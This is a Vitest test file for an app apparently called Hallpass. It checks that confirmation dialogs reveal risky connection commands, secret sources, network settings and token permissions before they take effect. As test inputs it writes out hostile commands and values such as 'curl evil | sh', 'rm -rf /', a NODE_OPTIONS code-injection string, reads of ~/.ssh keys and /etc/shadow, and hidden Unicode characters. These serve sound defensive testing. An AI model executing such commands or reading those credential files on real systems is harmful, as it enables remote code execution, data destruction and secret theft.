import { describe, expect, test } from 'vitest'
import { DEFAULT_SETTINGS } from '../../src/contract/settings.ts'
import type { OwnerClient } from '../../src/control/control-client.ts'
import {
  confirmConnection,
  confirmConnectionUpdate,
  confirmSecret,
  confirmSettings,
} from '../../src/main/ipc/confirmations.ts'
import { confirmLocalToken, confirmTokenUpdate } from '../../src/main/ipc/token-confirmations.ts'
import { startTestEngine } from '../support/start-test-engine.ts'

describe('confirmations outside the page before a connection is created', () => {
  test('show each argument of a command and its folder', () => {
    const question = confirmConnection({
      name: 'files',
      config: { kind: 'mcp', command: 'sh', args: ['-c', 'curl evil | sh'], cwd: '/tmp' },
    })
    expect(question?.message).toBe('Run this command for the connection "files"?')
    expect(question?.detail).toContain('    sh\n    -c\n    "curl evil | sh"\nWorking directory: /tmp')
  })

  test('show characters of a command that would hide or reorder it', () => {
    const config = { kind: 'mcp' as const, command: 'C:\\tools\\run.exe', args: ['a\u202eb', 'c\u200bd', 'e\u0085f'] }
    const detail = confirmConnection({ name: 'files', config })?.detail
    expect(detail).toContain('    C:\\tools\\run.exe\n    "a\\u{202e}b"\n    "c\\u{200b}d"\n    "e\\u{85}f"')
  })

  test('show where the secret from a file or variable goes', () => {
    const http = confirmConnection({
      name: 'api',
      config: { kind: 'http', url: 'https://api.example.com', auth: { type: 'bearer' } },
      secret: { ref: 'file:/home/me/.ssh/id_ed25519' },
    })
    expect(http?.detail).toBe(
      'Hallpass reads these values and sends them to https://api.example.com:\n    file:/home/me/.ssh/id_ed25519 (secret)',
    )
    const mcp = confirmConnection({
      name: 'remote',
      config: { kind: 'mcp', url: 'https://mcp.example.com', headers: { 'X-Key': 'Bearer env:AWS_SECRET' } },
    })
    expect(mcp?.detail).toContain('Bearer env:AWS_SECRET (for X-Key)')
    expect(confirmSecret({ name: 'api', secret: { ref: 'env:HOME' } })?.detail).toContain('env:HOME')
  })

  test('ask about an address beyond this computer, and about pages that may call', async () => {
    const ownerAt = (host: string) =>
      ({ settings: { get: async () => ({ ...DEFAULT_SETTINGS, host }) } }) as OwnerClient
    const ask = (input: Parameters<typeof confirmSettings>[0], host = '127.0.0.1') =>
      confirmSettings(input, ownerAt(host))
    expect((await ask({ host: '0.0.0.0', trusted_proxy: ['10.0.0.2'] }))?.detail).toMatch(
      /listens on 0\.0\.0\.0[^]*10\.0\.0\.2/,
    )
    expect((await ask({ allowed_origins: ['https://evil.example'] }))?.detail).toContain('https://evil.example')
    expect((await ask({ public_url: 'https://evil.example' }))?.detail).toContain('https://evil.example')
    // Its files are read when it is stored, also while nobody else can reach Hallpass.
    expect((await ask({ tls: { cert: '/c.pem', key: '/k.pem' } }))?.detail).toContain('/k.pem')
    expect((await ask({ trusted_proxy: ['10.0.0.2'] }))?.detail).toContain('10.0.0.2')
    expect(await ask({ host: '127.0.0.1', allowed_origins: [], log_days: 7, tls: null, public_url: null })).toBeNull()
    // What protects an address that others reach already.
    expect((await ask({ tls: { cert: '/c.pem', key: '/k.pem' } }, '0.0.0.0'))?.detail).toContain('/k.pem')
    expect(await ask({ trusted_proxy: ['10.0.0.9'] }, '192.168.1.20')).not.toBeNull()
    expect(await ask({ log_days: 7 }, '192.168.1.20')).toBeNull()
  })

  test('show characters that would hide a part of it', () => {
    const question = confirmConnection({
      name: 'files',
      config: { kind: 'mcp', command: 'echo', args: ['a\u202eb', 'x\nin /home'] },
    })
    expect(question?.detail).toContain('\\u{202e}')
    expect(question?.detail).not.toContain('\u202e')
    expect(question?.detail).toContain('"x\\nin /home"')
  })

  test('are skipped for what starts nothing and reads nothing', () => {
    expect(
      confirmConnection({
        name: 'crm',
        config: { kind: 'grist', url: 'https://docs.getgrist.com/abc' },
        secret: { value: 'typed' },
      }),
    ).toBeNull()
    expect(
      confirmConnection({
        name: 'remote',
        config: { kind: 'mcp', url: 'https://mcp.example.com', headers: { 'X-Key': 'keychain' } },
        secret: { value: 'typed' },
      }),
    ).toBeNull()
    expect(confirmSecret({ name: 'crm', secret: { value: 'typed' } })).toBeNull()
  })
})

describe('confirmations outside the page before a token gains permissions', () => {
  const update = (set: object) => ({ project: 'demo', name: 'agent', revision: 1, set }) as never
  const owner = (added: object[]) => ({ tokens: { previewUpdate: async () => ({ added }) } }) as never
  const permit = (resource: string | null) => ({ connection: 'sales', permission: 'write', limit: null, resource })

  test("show each added permission in the engine's words", async () => {
    const question = await confirmTokenUpdate(update({ grants: [] }), owner([permit(null), permit('Ord\u202eers')]))
    expect(question?.message).toBe('Give token "agent" more permissions?')
    expect(question?.detail).toContain('    write on sales\n    write on sales: Ord\\u{202e}ers')
  })

  test('shorten a long list, with the number of hidden lines', async () => {
    const many = Array.from({ length: 50 }, (_, index) => permit(`T${index}`))
    expect((await confirmTokenUpdate(update({ grants: [] }), owner(many)))?.detail).toMatch(/and 30 more$/)
  })

  test('ask about a local token that replaces another', () => {
    const local = { project: 'demo', name: 'claude', kind: 'local' as const }
    expect(confirmLocalToken({ ...local, force: true, clone: true })?.detail).toContain('everything in the project')
    expect(
      confirmLocalToken({
        ...local,
        force: true,
        grants: [{ connection: 'sales', permissions: ['read'], tables: ['A'] }],
      })?.detail,
    ).toContain('read on sales: A')
    expect(confirmLocalToken({ ...local, clone: true })).toBeNull()
    expect(confirmLocalToken({ ...local, kind: 'access', force: true, clone: true })).toBeNull()
  })

  test('are skipped for a change that adds nothing', async () => {
    expect(await confirmTokenUpdate(update({ grants: [] }), owner([]))).toBeNull()
    expect(
      await confirmTokenUpdate(update({ description: 'x', ttl: 'never', rate: null }), owner([permit(null)])),
    ).toBeNull()
  })
})

test('use what a real engine reports as new permissions', async () => {
  await using engine = await startTestEngine()
  await engine.owner.tokens.create({
    project: 'demo',
    name: 'agent',
    kind: 'access',
    grants: [{ connection: 'sales', permissions: ['read'] }],
  })
  const { revision } = await engine.owner.tokens.get({ project: 'demo', name: 'agent' })
  const input = {
    project: 'demo',
    name: 'agent',
    revision,
    set: { grants: [{ connection: 'sales', permissions: ['read' as const, 'write' as const] }] },
  }
  expect((await confirmTokenUpdate(input, engine.owner as never))?.detail).toContain('write on sales')
  expect(await confirmTokenUpdate({ ...input, set: { grants: [] } }, engine.owner as never)).toBeNull()
})

describe('changes of a connection', () => {
  test.each([
    ['another command', { command: 'rm', args: ['-rf', '/'] }],
    ['another argument', { command: 'server', args: ['--listen', '0.0.0.0'] }],
    ['a variable that can run anything', { command: 'server', env: { NODE_OPTIONS: 'plain:--require=/tmp/x.js' } }],
    ['another folder', { command: 'server', cwd: '/tmp' }],
  ])('ask before a connection is started with %s', async (_what, changed) => {
    const owner = { connections: { config: async () => ({ kind: 'mcp' as const, command: 'server' }) } }
    const config = { kind: 'mcp' as const, ...changed }
    const question = await confirmConnectionUpdate({ name: 'up', revision: 1, set: { config } }, owner)
    expect(question?.detail).toContain(changed.command)
    for (const value of Object.values('env' in changed ? changed.env : {})) expect(question?.detail).toContain(value)
    const same = { kind: 'mcp' as const, command: 'server', trust: 'all' as const }
    expect(await confirmConnectionUpdate({ name: 'up', revision: 1, set: { config: same } }, owner)).toBeNull()
  })

  test('ask before a connection reads a file as its secret, but not for a name, a pause or a typed secret', async () => {
    const owner = { connections: { config: async () => ({ kind: 'grist' as const, url: 'https://grist.example' }) } }
    const ask = (set: Parameters<typeof confirmConnectionUpdate>[0]['set']) =>
      confirmConnectionUpdate({ name: 'crm', revision: 1, set }, owner)
    expect((await ask({ secret: { ref: 'file:/etc/shadow' } }))?.detail).toContain('file:/etc/shadow')
    expect(await ask({ name: 'other', paused: true })).toBeNull()
    expect(await ask({ secret: { value: 'typed' } })).toBeNull()
  })

  test('show the variables of a command also together with a reference', async () => {
    const owner = { connections: { config: async () => ({ kind: 'mcp' as const, command: 'server' }) } }
    const config = { kind: 'mcp' as const, command: 'server', env: { NODE_OPTIONS: 'plain:--require /tmp/x' } }
    const set = { config, secret: { ref: 'env:X' } }
    const question = await confirmConnectionUpdate({ name: 'up', revision: 1, set }, owner)
    expect(question?.detail).toContain('env:X')
    expect(question?.detail).toContain('NODE_OPTIONS: plain:--require /tmp/x')
  })
})
